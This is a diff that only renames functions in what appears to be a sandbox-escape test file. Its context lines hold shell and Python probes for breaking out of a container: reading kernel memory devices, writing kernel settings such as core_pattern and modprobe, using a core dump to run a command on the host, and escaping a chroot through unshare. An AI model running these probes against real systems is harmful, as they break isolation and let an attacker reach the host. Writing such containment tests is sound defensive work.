@@ -2,7 +2,7 @@ import { inC, python, type EscapeTheme } from './attempt.ts';
 
 const WON = 'printf "canary-%s\\n" 7f3a91c2';
 
-const kernelOne: EscapeTheme = ({ key, home, mark, victim }) => ({
+const interfacesAndDevices: EscapeTheme = ({ key, home, mark, victim }) => ({
   'read the memory of the kernel and its log': `head -c1 /dev/mem /dev/kmem /dev/port /proc/kcore >/dev/null 2>&1 && ${WON}; dmesg 2>/dev/null | grep -q . && [ "$(cat /proc/sys/kernel/dmesg_restrict)" = 1 ] && ${WON}; head -c1 /dev/kmsg /proc/kmsg 2>/dev/null | grep -q . && ${WON}`,
   'write to settings of the kernel': `for f in $(find /proc/sys /proc/irq /proc/fs /proc/bus -xdev -maxdepth 4 -type f -writable 2>/dev/null | head -300) /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/kernel/hotplug /proc/sys/vm/overcommit_memory /proc/sys/fs/binfmt_misc/register /proc/sys/net/ipv4/ip_forward; do v=$(cat "$f" 2>/dev/null); (printf "%s" "$v" > "$f") 2>/dev/null && ${WON} && echo "$f"; done`,
   'have a core dump handled on the host': `(echo '|/bin/touch ${mark}' > /proc/sys/kernel/core_pattern) 2>/dev/null && ${WON}; ulimit -c unlimited; sh -c 'kill -SEGV $$'; true`,
@@ -79,7 +79,7 @@ try:
 except OSError as e: print(e)`),
 });
 
-const kernelTwo: EscapeTheme = ({ key, home }) => ({
+const rootsAndForeignCalls: EscapeTheme = ({ key, home }) => ({
   'leave its root as root of a namespace of its own': `unshare -Urm /usr/bin/python3 -I -c 'import os
 os.makedirs("/tmp/j",exist_ok=True); fd=os.open("/",os.O_RDONLY); os.chroot("/tmp/j"); os.fchdir(fd)
 for _ in range(99): os.chdir("..")
@@ -100,4 +100,4 @@ r=ctypes.CFUNCTYPE(ctypes.c_int)(addr)(); won("a file of the host was opened") i
 });
 
 /** To reach the kernel, devices and terminals. */
-export const kernel: EscapeTheme = (world) => ({ ...kernelOne(world), ...kernelTwo(world) });
+export const kernel: EscapeTheme = (world) => ({ ...interfacesAndDevices(world), ...rootsAndForeignCalls(world) });
